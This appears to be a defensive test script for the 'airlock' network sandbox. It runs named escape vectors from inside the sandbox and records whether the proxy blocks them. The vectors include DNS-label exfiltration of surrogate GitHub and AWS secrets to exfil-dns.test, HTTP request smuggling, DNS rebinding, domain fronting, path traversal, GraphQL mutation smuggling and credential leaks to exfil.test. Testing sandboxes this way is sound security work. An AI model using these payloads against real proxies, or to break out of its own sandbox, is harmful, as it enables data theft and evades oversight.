"""Escape vectors against the network sandbox, run INSIDE `airlock run` as the untrusted command.

Each vector prints `begin:NAME`, then `NAME=OUTCOME` on one line. OUTCOME is short and stable (the proxy's address
is written `proxy`) so the test can compare it with what the sandbox guarantees. The listeners on the host record
what actually arrived; the test checks those too. Usage: python3 network_vectors.py NAME...
"""
import base64
import datetime
import hashlib
import hmac
import http.client
import json
import os
import random
import re
import socket
import ssl
import struct
import subprocess
import sys
import urllib.parse
import zlib

# Every name resolves to the proxy. The configured resolver is the proxy itself on Podman, and Docker's embedded
# resolver (127.0.0.11, inside this network namespace) on Docker, which forwards to the proxy.
PROXY = socket.gethostbyname('allowed.test')
RESOLVER = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
CA = '/etc/airlock/ca.pem'
SURROGATE = os.environ['GH_TOKEN']
AWS_KEY = os.environ['AWS_ACCESS_KEY_ID']
AWS_SECRET = os.environ['AWS_SECRET_ACCESS_KEY']
HOST_IPS = os.environ['HOST_IPS'].split()
TCP_PORT = int(os.environ['ATTACK_TCP_PORT'])
UDP_PORT = int(os.environ['ATTACK_UDP_PORT'])
RECORDER_PORTS = [int(p) for p in os.environ['RECORDER_PORTS'].split()]
ATTACKER_PORT = int(os.environ['ATTACKER_PORT'])
PORTED_PORT = int(os.environ['PORTED_PORT'])
# The sandbox network's usual gateway addresses (x.y.z.1, x.y.z.254), which the engine may or may not hold: ours
# either way. The proxy itself may hold one of them; it is the one peer the sandbox is meant to reach.
GATEWAYS = [ip for ip in ('.'.join(PROXY.split('.')[:3] + [n]) for n in ('1', '254')) if ip != PROXY]
TARGET_IPS = HOST_IPS + GATEWAYS


def read_all(sock, limit=1 << 20):
    data = b''
    try:
        while len(data) < limit:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, TimeoutError, ConnectionResetError, ssl.SSLError, OSError):
        pass
    return data


def over_tls(sni, raw, timeout=5):
    ctx = ssl.create_default_context(cafile=CA)
    if sni is None:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    sock = socket.create_connection((PROXY, 443), timeout=timeout)
    try:
        tls = ctx.wrap_socket(sock, server_hostname=sni)
    except (ssl.SSLError, ConnectionResetError, OSError):
        sock.close()
        return 'handshake_failed'
    try:
        tls.sendall(raw)
        return read_all(tls)
    finally:
        tls.close()


def over_http(raw, timeout=5):
    sock = socket.create_connection((PROXY, 80), timeout=timeout)
    try:
        sock.sendall(raw)
        return read_all(sock)
    finally:
        sock.close()


def outcome(resp):
    """`STATUS[:code]` for each response in order, comma-separated; `handshake_failed` / `no_response` as is."""
    if isinstance(resp, str):
        return resp
    if not resp:
        return 'no_response'
    out = []
    for m in re.finditer(rb'HTTP/1\.[01] (\d{3})[^\r\n]*\r\n((?:[^\r\n]+\r\n)*)\r\n', resp):
        status = m.group(1).decode()
        headers = m.group(2).decode('latin1')
        deny = re.search(r'(?im)^x-airlock-deny: *(\S+)', headers)
        code = deny.group(1) if deny else ''
        if not code and status == '400':
            code = 'bad_request'
        out.append(status + (':' + code if code else ''))
    return ','.join(out) if out else 'unparsed'


def request(method, target, host, extra='', body=b'', close=True):
    head = f'{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}'
    if body:
        head += f'Content-Length: {len(body)}\r\n'
    if close:
        head += 'Connection: close\r\n'
    return head.encode('latin1') + b'\r\n' + body


def curl(*args):
    r = subprocess.run(['curl', '-s', '-o', '/dev/null', '-D', '-', '-m', '10', *args], capture_output=True, timeout=20)
    return outcome(r.stdout) if r.stdout else f'curl_exit_{r.returncode}'


# --- DNS ---------------------------------------------------------------------------------------------------------

def dns_packet(name, qtype):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', qtype, 1)


def dns_summary(reply, qtype):
    if not reply:
        return 'no_answer'
    rcode = reply[3] & 0x0F
    answers = struct.unpack('>H', reply[6:8])[0]
    text = f'rcode{rcode}:an{answers}'
    if answers and qtype == 1:
        ip = socket.inet_ntoa(reply[-4:])
        text += ':' + ('proxy' if ip == PROXY else ip)
    return text


def dns_udp(name, qtype=1, server=None, timeout=3):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(timeout)
    try:
        sock.sendto(dns_packet(name, qtype), (server or PROXY, 53))
        return dns_summary(sock.recv(4096), qtype)
    except (socket.timeout, TimeoutError):
        return 'no_answer'
    except OSError as e:
        return 'no_answer' if e.errno in (101, 111, 113) else f'error{e.errno}'
    finally:
        sock.close()


def dns_tcp(name, qtype=1, server=None, timeout=3):
    try:
        sock = socket.create_connection((server or PROXY, 53), timeout=timeout)
    except OSError:
        return 'no_answer'
    try:
        q = dns_packet(name, qtype)
        sock.sendall(struct.pack('>H', len(q)) + q)
        data = read_all(sock, 2)
        while len(data) >= 2 and len(data) < 2 + struct.unpack('>H', data[:2])[0]:
            more = sock.recv(4096)
            if not more:
                break
            data += more
        return dns_summary(data[2:], qtype)
    finally:
        sock.close()


def exfil_labels():
    # The only secret-ish thing the sandbox holds is the surrogate: smuggle it out in maximal 63-byte labels.
    data = (SURROGATE + AWS_SECRET).encode().hex()
    return '.'.join(data[i:i + 63] for i in range(0, min(len(data), 189), 63))


def v_dns_long_labels():
    return dns_udp(exfil_labels() + '.exfil-dns.test')


def v_dns_system_resolver():
    return dns_udp(exfil_labels() + '.exfil-dns.test', 1, RESOLVER)


def v_dns_txt():
    return dns_udp(exfil_labels()[:63] + '.exfil-dns.test', 16)


def v_dns_any():
    return dns_udp(exfil_labels()[:63] + '.exfil-dns.test', 255)


def v_dns_aaaa():
    return dns_udp('v6.exfil-dns.test', 28)


def v_dns_tcp():
    return dns_tcp(exfil_labels() + '.exfil-dns.test')


def v_dns_other_resolvers_udp():
    answers = [dns_udp(exfil_labels()[:63] + '.exfil-dns.test', 1, ip, 2) for ip in TARGET_IPS]
    return 'no_answer' if all(a == 'no_answer' for a in answers) else ','.join(answers)


def v_dns_other_resolvers_tcp():
    answers = [dns_tcp(exfil_labels()[:63] + '.exfil-dns.test', 1, ip, 2) for ip in TARGET_IPS]
    return 'no_answer' if all(a == 'no_answer' for a in answers) else ','.join(answers)


# --- Addresses, ports, protocols ------------------------------------------------------------------------------

def v_direct_ip_tcp():
    reached = []
    for ip in TARGET_IPS:
        for port in RECORDER_PORTS + [TCP_PORT, 22, 443]:
            sock = socket.socket()
            sock.settimeout(1)
            if sock.connect_ex((ip, port)) == 0:
                reached.append(f'{ip}:{port}')
            sock.close()
    return 'unreachable' if not reached else 'reached:' + ','.join(reached)


def v_proxy_ip_literal_https():
    # An IP literal gives no SNI; the proxy refuses to present any certificate without a name.
    return outcome(over_tls(None, request('GET', '/', PROXY)))


def v_host_ip_literal_via_proxy():
    # Ask the proxy itself to fetch this machine's address: an IP is not an allowed host. (Naming the attacker's
    # port as well is refused even earlier, as any port other than the one connected to: see the port_* vectors.)
    return outcome(over_http(request('GET', '/', HOST_IPS[0])))


def v_proxy_other_ports():
    opened = []
    for port in list(range(1, 1025)) + [2375, 2376, 3128, 5000, 8000, 8080, 8443, 8888, 9000, 9090, 9229, 10000]:
        sock = socket.socket()
        sock.settimeout(0.3)
        if sock.connect_ex((PROXY, port)) == 0:
            opened.append(str(port))
        sock.close()
    return ','.join(opened)


def v_udp_direct():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1)
    replies = 0
    for ip in TARGET_IPS + [PROXY]:
        try:
            sock.sendto(SURROGATE.encode(), (ip, UDP_PORT))
            sock.recv(100)
            replies += 1
        except OSError:
            pass
    return f'replies{replies}'


def v_icmp():
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except PermissionError:
        return 'no_socket'
    sock.settimeout(1)
    reached = []
    payload = b'\x08\x00\x00\x00\x00\x00\x00\x00' + SURROGATE.encode()
    for ip in TARGET_IPS:
        try:
            sock.sendto(payload, (ip, 0))
            sock.recv(200)
            reached.append(ip)
        except OSError:
            pass
    return 'no_reply' if not reached else 'reply:' + ','.join(reached)


def v_raw_socket():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        return 'created'
    except PermissionError:
        return 'denied'


def v_packet_socket():
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        return 'created'
    except PermissionError:
        return 'denied'


def v_ipv6():
    reached = []
    for addr in ['fd00::1', '2001:db8::1', '::ffff:' + HOST_IPS[0], 'fe80::1%eth0']:
        try:
            sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            sock.settimeout(1)
            if sock.connect_ex((addr, 443)) == 0:
                reached.append(addr)
            sock.close()
        except OSError:
            pass
    v6 = open('/proc/sys/net/ipv6/conf/all/disable_ipv6').read().strip()
    return f'disable_ipv6={v6}:' + ('unreachable' if not reached else 'reached:' + ','.join(reached))


def v_rebind_to_loopback():
    # An allowed name whose (attacker-run) DNS answers 127.0.0.1: the proxy must not connect to its own loopback.
    return curl('https://rebind-loopback.test/')


def v_rebind_to_host():
    # This machine's own address: the runner itself is not an upstream. (A port of a listener there can no longer be
    # named in the request at all: port_steer_* and host_port_override.)
    return curl('https://rebind-host.test/')


def v_rebind_to_zero():
    return curl('https://rebind-zero.test/')


def v_rebind_to_usermode_host():
    # The host as rootless networking names it: slirp4netns's 10.0.2.2, pasta's mapped 169.254.1.2.
    return ','.join(curl(f'https://{name}/') for name in ('rebind-slirp-host.test', 'rebind-pasta-host.test'))


# --- HTTP tricks --------------------------------------------------------------------------------------------------

def v_connect_http():
    return outcome(over_http(b'CONNECT blocked.test:443 HTTP/1.1\r\nHost: blocked.test:443\r\n\r\n'))


def v_connect_https():
    return outcome(over_tls('allowed.test', b'CONNECT blocked.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n'))


def v_absolute_form_https():
    return outcome(over_tls('allowed.test', request('GET', 'https://blocked.test/content', 'allowed.test')))


def v_absolute_form_http():
    return outcome(over_http(request('GET', 'http://blocked.test/content', 'allowed.test')))


def v_absolute_form_userinfo():
    return outcome(over_tls('allowed.test', request('GET', 'https://allowed.test@blocked.test/api/x', 'allowed.test')))


def v_sni_host_mismatch():
    return outcome(over_tls('allowed.test', request('GET', '/content', 'blocked.test')))


def v_sni_blocked_host_allowed():
    return outcome(over_tls('blocked.test', request('GET', '/api/x', 'allowed.test')))


def v_no_sni():
    return outcome(over_tls(None, request('GET', '/api/x', 'allowed.test')))


def v_domain_fronting_curl():
    return curl('-H', 'Host: blocked.test', 'https://allowed.test/api/front')


def v_host_port_override():
    # The allowlist is per host; a port in Host must not steer the proxy to another listener on the same machine.
    port = [p for p in RECORDER_PORTS if p != RECORDER_PORTS[0]][-1]
    return curl(f'https://allowed.test:{port}/api/port', '--connect-to', f'allowed.test:{port}:allowed.test:443')


def v_port_steer_https():
    # steer.test is mapped without a port; the attacker's listener is another port on the same address.
    return outcome(over_tls('steer.test', request('GET', '/admin', f'steer.test:{ATTACKER_PORT}',
                                                  f'Authorization: Bearer {SURROGATE}\r\n')))


def v_port_steer_http():
    return outcome(over_http(request('GET', '/admin', f'steer.test:{ATTACKER_PORT}')))


def v_port_steer_absolute():
    authority = f'steer.test:{ATTACKER_PORT}'
    return outcome(over_http(request('GET', f'http://{authority}/admin', authority)))


def v_declared_port_https():
    # ported.test:PORT is in the allowlist, so the proxy listens on PORT and connects upstream to that port.
    return curl(f'https://ported.test:{PORTED_PORT}/api/declared')


def v_declared_port_http():
    return curl(f'http://ported.test:{PORTED_PORT}/api/declared-plain')


def v_declared_port_default():
    return curl('https://ported.test/api/default')


SMUGGLED = b'GET /private-smuggled HTTP/1.1\r\nHost: blocked.test\r\n\r\n'


def v_connection_content_length():
    # Dropping Content-Length as hop-by-hop would leave the body unframed: the upstream reads it as a request.
    raw = (b'GET /api/cl HTTP/1.1\r\nHost: allowed.test\r\nConnection: close, content-length\r\n'
           + f'Content-Length: {len(SMUGGLED)}\r\n\r\n'.encode() + SMUGGLED)
    return outcome(over_tls('allowed.test', raw))


def v_connection_capture():
    # An unfinished POST to another virtual host, left on a pooled upstream connection, would swallow the next
    # request there: the one that carries the real token.
    capture = b'POST /capture-smuggled HTTP/1.1\r\nHost: blocked.test\r\nContent-Length: 160\r\n\r\n'
    first = (b'GET /api/first HTTP/1.1\r\nHost: allowed.test\r\nConnection: close, Content-Length\r\n'
             + f'Content-Length: {len(capture)}\r\n\r\n'.encode() + capture)
    a = outcome(over_tls('allowed.test', first))
    filler = b'x' * 300
    b = outcome(over_tls('allowed.test', request('POST', '/api/victim', 'allowed.test',
                                                  f'Authorization: Bearer {SURROGATE}\r\n', filler)))
    return f'{a},{b}'


def v_connection_host():
    # Without Host the upstream's default virtual host would answer.
    return outcome(over_tls('allowed.test', request('GET', '/api/nohost', 'allowed.test', 'Connection: close, host\r\n',
                                                    close=False)))


def v_connection_transfer_encoding():
    raw = (b'POST /api/te HTTP/1.1\r\nHost: allowed.test\r\nConnection: close, transfer-encoding\r\n'
           b'Transfer-Encoding: chunked\r\n\r\n' + f'{len(SMUGGLED):x}\r\n'.encode() + SMUGGLED + b'\r\n0\r\n\r\n')
    return outcome(over_tls('allowed.test', raw))


def v_h2c_upgrade_allowed_host():
    # An upstream that took h2c would route each HTTP/2 stream by its own authority; here it reads HTTP/1.1 on.
    extra = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n'
    return outcome(over_http(f'GET /api/h2c HTTP/1.1\r\nHost: allowed.test\r\n{extra}\r\n'.encode() + SMUGGLED))


def v_encoded_traversal():
    return curl('--path-as-is', 'https://allowed.test/api/%2e%2e/private')


def v_plain_traversal():
    return curl('--path-as-is', 'https://allowed.test/api/../private')


def v_nul_in_path():
    return curl('--path-as-is', 'https://allowed.test/api/%00/../private')


def v_backslash_path():
    return curl('--path-as-is', 'https://allowed.test/api/..%5cprivate')


def v_path_outside_prefix():
    return curl('https://allowed.test/private')


def smuggle(path, framing, inner_host):
    """A POST whose framing headers disagree, carrying a second request the proxy would refuse in its body."""
    body = b'0\r\n\r\n' + f'GET /private-smuggled HTTP/1.1\r\nHost: {inner_host}\r\n\r\n'.encode()
    raw = f'POST {path} HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: {len(body)}\r\n{framing}\r\n'.encode()
    return outcome(over_tls('allowed.test', raw + body))


def v_cl_te_conflict():
    return smuggle('/api/clte', 'Transfer-Encoding: chunked\r\n', 'blocked.test')


def v_te_obfuscated():
    return smuggle('/api/te', 'Transfer-Encoding: xchunked\r\nTransfer-Encoding : chunked\r\n', 'allowed.test')


def v_obs_fold_host():
    raw = (b'GET /api/fold HTTP/1.1\r\nHost: allowed.test\r\nX-Fold: a\r\n Host: blocked.test\r\n'
           b'Connection: close\r\n\r\n')
    return outcome(over_tls('allowed.test', raw))


def v_duplicate_host():
    raw = b'GET /api/dup HTTP/1.1\r\nHost: allowed.test\r\nHost: blocked.test\r\nConnection: close\r\n\r\n'
    return outcome(over_tls('allowed.test', raw))


def v_pipelined_second_host():
    raw = (request('GET', '/api/first', 'allowed.test', close=False)
           + request('GET', '/content', 'blocked.test', close=False)
           + request('GET', '/private-smuggled', 'allowed.test'))
    return outcome(over_tls('allowed.test', raw))


def v_h2_prior_knowledge():
    # HTTP/2 without negotiation (the connection preface) to get past an HTTP/1.1-only inspector.
    preface = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + bytes.fromhex('000000040000000000')
    return outcome(over_http(preface))


def v_h2_alpn():
    ctx = ssl.create_default_context(cafile=CA)
    ctx.set_alpn_protocols(['h2'])
    with socket.create_connection((PROXY, 443), timeout=5) as sock:
        try:
            with ctx.wrap_socket(sock, server_hostname='allowed.test') as tls:
                return f'alpn={tls.selected_alpn_protocol()}'
        except ssl.SSLError:
            return 'handshake_failed'


def v_h2c_upgrade_blocked():
    extra = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n'
    return outcome(over_http(f'GET / HTTP/1.1\r\nHost: blocked.test\r\n{extra}\r\n'.encode()))


def v_nul_in_host():
    return outcome(over_tls('allowed.test', b'GET /api/x HTTP/1.1\r\nHost: allowed.test\x00.blocked.test\r\nConnection: close\r\n\r\n'))


def v_pipelined_http_hosts():
    # Plain HTTP lets each request name its own host: three hosts on one connection, each routed and judged alone.
    raw = (request('GET', '/api/p1', 'allowed.test', close=False)
           + request('GET', '/p2', 'exfil.test', close=False)
           + request('GET', '/p3', 'blocked.test'))
    return outcome(over_http(raw))


def v_trace_echo():
    return outcome(over_tls('allowed.test', request('TRACE', '/api/trace', 'allowed.test', f'Authorization: Bearer {SURROGATE}\r\n')))


def v_track_echo():
    return outcome(over_tls('allowed.test', request('TRACK', '/api/trace', 'allowed.test', f'Authorization: Bearer {SURROGATE}\r\n')))


def v_redirect_to_blocked():
    return curl('-L', 'https://allowed.test/api/redirect')


def websocket(sni, path, host, after=b''):
    extra = ('Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n'
             'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n')
    return outcome(over_tls(sni, f'GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n'.encode() + after))


def v_websocket_blocked():
    return websocket('blocked.test', '/ws', 'blocked.test')


def v_websocket_host_swap():
    return websocket('allowed.test', '/api/ws', 'blocked.test')


def v_websocket_fake_accept():
    # The upstream says 101 without proving it speaks WebSocket; the bytes after the handshake are a request.
    return websocket('allowed.test', '/api/ws-fake', 'allowed.test', SMUGGLED)


def v_websocket_real_accept():
    return websocket('allowed.test', '/api/ws-real', 'allowed.test')


# --- GraphQL: allowed.test/graphql admits only the query field `viewer` ------------------------------------------

def graphql(body, extra=''):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return outcome(over_tls('allowed.test', request('POST', '/graphql', 'allowed.test',
                                                    'Content-Type: application/json\r\n' + extra, data)))


def v_graphql_positive_control():
    return graphql({'query': '{ viewer { login } }'})


def v_graphql_mutation():
    return graphql({'query': 'mutation { deleteRepository(input: {}) { id } }'})


def v_graphql_alias():
    return graphql({'query': '{ viewer: deleteRepository(input: {}) { id } }'})


def v_graphql_fragment():
    return graphql({'query': 'query { ...F } fragment F on Query { deleteRepository { id } }'})


def v_graphql_batched():
    return graphql([{'query': '{ viewer { login } }'}, {'query': 'mutation { deleteRepository { id } }'}])


def v_graphql_operation_name():
    doc = 'query A { viewer { login } } mutation B { deleteRepository { id } }'
    return graphql({'query': doc, 'operationName': 'B'})


def v_graphql_gzip():
    gz = zlib.compressobj(wbits=31)
    data = gz.compress(json.dumps({'query': 'mutation { deleteRepository { id } }'}).encode()) + gz.flush()
    return graphql(data, 'Content-Encoding: gzip\r\n')


def v_graphql_unknown_encoding():
    return graphql(b'(\xb5/\xfd opaque', 'Content-Encoding: zstd\r\n')


def v_graphql_websocket():
    return websocket('allowed.test', '/graphql', 'allowed.test')


# --- Anthropic server-side tools: api.anthropic.com is allowed, attacker.test is not -------------------------------

def messages(tool):
    body = json.dumps({'model': 'claude-x', 'max_tokens': 1, 'messages': [{'role': 'user', 'content': 'go'}],
                       'tools': [tool]}).encode()
    return outcome(over_tls('api.anthropic.com', request('POST', '/v1/messages', 'api.anthropic.com',
                                                         'Content-Type: application/json\r\n', body)))


def v_tool_web_fetch_domains():
    return messages({'type': 'web_fetch_20250910', 'name': 'web_fetch', 'allowed_domains': ['attacker.test', 'exfil.test']})


def v_tool_web_fetch_unrestricted():
    return messages({'type': 'web_fetch_20250910', 'name': 'web_fetch'})


def v_tool_wildcard_domain():
    return messages({'type': 'web_fetch_20250910', 'name': 'web_fetch', 'allowed_domains': ['*.attacker.test']})


def v_tool_blocklist():
    return messages({'type': 'web_search_20250305', 'name': 'web_search', 'blocked_domains': ['attacker.test']})


# --- Credentials ----------------------------------------------------------------------------------------------------

def v_masked_positive_control():
    # The real value SHOULD arrive here (Authorization, in scope): proves the listeners would see a leak.
    return curl('-H', f'Authorization: Bearer {SURROGATE}', 'https://allowed.test/api/control')


def v_surrogate_in_query():
    return curl(f'https://allowed.test/api/q?token={SURROGATE}&access_token={SURROGATE}')


def v_surrogate_in_body():
    return curl('-X', 'POST', '--data', f'token={SURROGATE}', 'https://allowed.test/api/body')


def v_surrogate_in_other_header():
    return curl('-H', f'X-Token: {SURROGATE}', '-H', f'Cookie: t={SURROGATE}', '-H', f'Proxy-Authorization: Bearer {SURROGATE}',
                'https://allowed.test/api/other-header')


def v_surrogate_out_of_scope():
    return curl('-H', f'Authorization: Bearer {SURROGATE}', 'https://exfil.test/collect')


def v_surrogate_plain_http_in_scope():
    return curl('-H', f'Authorization: Bearer {SURROGATE}', 'http://allowed.test/api/plain')


def v_duplicate_authorization():
    return curl('-H', 'Authorization: Bearer ATTACKER', '-H', f'Authorization: Bearer {SURROGATE}',
                'https://allowed.test/api/dup-auth')


def v_authorization_list():
    return curl('-H', f'Authorization: Bearer ATTACKER, Bearer {SURROGATE}', 'https://allowed.test/api/auth-list')


def v_basic_surrogate_user_attacker_password():
    cred = base64.b64encode(f'{SURROGATE}:ATTACKER'.encode()).decode()
    return curl('-H', f'Authorization: Basic {cred}', 'https://allowed.test/api/basic-swap')


def v_basic_userinfo_out_of_scope():
    return curl(f'https://x-access-token:{SURROGATE}@exfil.test/basic')


def v_host_case_and_dot():
    # Scope matching must not be fooled into sending the real value to exfil.test by a spelling of allowed.test.
    return curl('-H', f'Authorization: Bearer {SURROGATE}', 'https://ALLOWED.test./api/case')


def aws_sign_v4(method, host, path, query, headers, payload_hash, presign):
    now = datetime.datetime.now(datetime.timezone.utc)
    amz = now.strftime('%Y%m%dT%H%M%SZ')
    scope = f'{amz[:8]}/us-east-1/s3/aws4_request'
    q = dict(query)
    hdrs = {'host': host, **{k.lower(): v for k, v in headers.items()}}
    if presign:
        q.update({'X-Amz-Algorithm': 'AWS4-HMAC-SHA256', 'X-Amz-Credential': f'{AWS_KEY}/{scope}',
                  'X-Amz-Date': amz, 'X-Amz-Expires': '300', 'X-Amz-SignedHeaders': 'host'})
        hdrs = {'host': host}
    else:
        hdrs['x-amz-date'] = amz
        hdrs['x-amz-content-sha256'] = payload_hash
    enc = lambda s: urllib.parse.quote(s, safe='-_.~')
    cq = '&'.join(f'{enc(k)}={enc(v)}' for k, v in sorted(q.items()))
    names = sorted(hdrs)
    creq = '\n'.join([method, path, cq, ''.join(f'{n}:{hdrs[n]}\n' for n in names), ';'.join(names), payload_hash])
    sts = '\n'.join(['AWS4-HMAC-SHA256', amz, scope, hashlib.sha256(creq.encode()).hexdigest()])
    key = ('AWS4' + AWS_SECRET).encode()
    for part in [amz[:8], 'us-east-1', 's3', 'aws4_request']:
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    sig = hmac.new(key, sts.encode(), hashlib.sha256).hexdigest()
    if presign:
        return f'https://{host}{path}?{cq}&X-Amz-Signature={sig}', {}
    out = {n: hdrs[n] for n in names if n != 'host'}
    out['Authorization'] = f'AWS4-HMAC-SHA256 Credential={AWS_KEY}/{scope}, SignedHeaders={";".join(names)}, Signature={sig}'
    return f'https://{host}{path}', out


def aws_curl(method, host, path, presign, send_to=None):
    """Signs for `host` with the surrogate key, then sends it to `send_to` (default: the same host)."""
    url, headers = aws_sign_v4(method, host, path, {}, {}, 'UNSIGNED-PAYLOAD', presign)
    args = ['-X', method]
    for k, v in headers.items():
        args += ['-H', f'{k}: {v}']
    if send_to:
        url = url.replace(f'https://{host}', f'https://{send_to}', 1)
    return curl(*args, url)


def v_aws_positive_control():
    # In scope: the proxy re-signs with the real key (the real key id SHOULD arrive at s3.aws.test).
    return aws_curl('GET', 's3.aws.test', '/bucket/control', False)


def v_aws_presigned_in_scope():
    return aws_curl('GET', 's3.aws.test', '/bucket/presigned', True)


def v_aws_presigned_out_of_scope():
    return aws_curl('GET', 'exfil.test', '/bucket/presigned', True)


def v_aws_signed_out_of_scope():
    return aws_curl('GET', 'exfil.test', '/bucket/signed', False)


def v_aws_signed_for_scope_sent_elsewhere():
    # Signed for s3.aws.test, then delivered with the Host of exfil.test: the proxy must not re-sign it there.
    return aws_curl('GET', 's3.aws.test', '/bucket/moved', False, 'exfil.test')


# --- Echoing hosts: a scoped host that reflects the request must hand back only what the sandbox sent ---------------

ECHO_DUMP_DIR = os.environ.get('ECHO_DUMP_DIR', '.escape-dump-network/echoed')


def fetch(host, path, headers):
    """GET through the proxy; returns status, reason, headers and the body (gunzipped if it says gzip)."""
    conn = http.client.HTTPSConnection(host, 443, context=ssl.create_default_context(cafile=CA), timeout=10)
    try:
        conn.putrequest('GET', path, skip_accept_encoding=True)
        for name, value in headers:
            conn.putheader(name, value)
        conn.endheaders()
        r = conn.getresponse()
        body = r.read()
        if (r.getheader('Content-Encoding') or '').lower() == 'gzip':
            body = zlib.decompress(body, 16 + zlib.MAX_WBITS)
        return r.status, r.reason, r.getheaders(), body
    finally:
        conn.close()


def echo_vector(name, host, path, headers, own):
    """`STATUS:own` when the reflection is exactly what was sent, `STATUS:other` if anything else came back.
    Everything received is also written to the dump, which the host searches for the real values in any encoding."""
    status, reason, got, body = fetch(host, path, headers)
    os.makedirs(ECHO_DUMP_DIR, exist_ok=True)
    with open(os.path.join(ECHO_DUMP_DIR, name + '.txt'), 'wb') as f:
        f.write(f'{status} {reason}\n'.encode('latin1', 'replace'))
        f.write(''.join(f'{k}: {v}\n' for k, v in got).encode('latin1', 'replace') + b'\n' + body)
    try:
        mine = own(dict((k.lower(), v) for k, v in got), body)
    except (ValueError, KeyError, StopIteration):
        mine = False
    return f'{status}:' + ('own' if mine else 'other')


def echoed_header(body, name):
    return next(v for k, v in json.loads(body)['headers'] if k.lower() == name)


def v_echo_body():
    auth = f'Bearer {SURROGATE}'
    return echo_vector('echo_body', 'allowed.test', '/api/echo', [('Authorization', auth)],
                       lambda h, b: echoed_header(b, 'authorization') == auth)


def v_echo_basic():
    auth = 'Basic ' + base64.b64encode(f'x-access-token:{SURROGATE}'.encode()).decode()
    return echo_vector('echo_basic', 'allowed.test', '/api/echo', [('Authorization', auth)],
                       lambda h, b: echoed_header(b, 'authorization') == auth)


def v_echo_header():
    auth = f'Bearer {SURROGATE}'
    return echo_vector('echo_header', 'allowed.test', '/api/echo-header', [('Authorization', auth)],
                       lambda h, b: h['x-echo-authorization'] == auth)


def v_echo_gzip():
    auth = f'Bearer {SURROGATE}'
    return echo_vector('echo_gzip', 'allowed.test', '/api/echo-gzip',
                       [('Authorization', auth), ('Accept-Encoding', 'gzip')],
                       lambda h, b: echoed_header(b, 'authorization') == auth)


def v_echo_chunked():
    auth = f'Bearer {SURROGATE}'
    return echo_vector('echo_chunked', 'allowed.test', '/api/echo-chunked', [('Authorization', auth)],
                       lambda h, b: echoed_header(b, 'authorization') == auth)


def v_aws_echo_signed():
    url, headers = aws_sign_v4('GET', 's3.aws.test', '/bucket/echo', {}, {}, 'UNSIGNED-PAYLOAD', False)
    return echo_vector('aws_echo_signed', 's3.aws.test', '/bucket/echo', list(headers.items()),
                       lambda h, b: echoed_header(b, 'authorization') == headers['Authorization'])


def v_aws_echo_presigned():
    url, _ = aws_sign_v4('GET', 's3.aws.test', '/bucket/echo-presigned', {}, {}, 'UNSIGNED-PAYLOAD', True)
    target = url[len('https://s3.aws.test'):]
    return echo_vector('aws_echo_presigned', 's3.aws.test', target, [],
                       lambda h, b: json.loads(b)['url'] == target)


def main(names):
    for name in names:
        print(f'begin:{name}', flush=True)
        try:
            result = globals()['v_' + name]()
        except Exception as e:  # a crash is an outcome too, never a silent pass
            result = f'exception:{type(e).__name__}'
        print(f'{name}={result}', flush=True)


if __name__ == '__main__':
    main(sys.argv[1:])
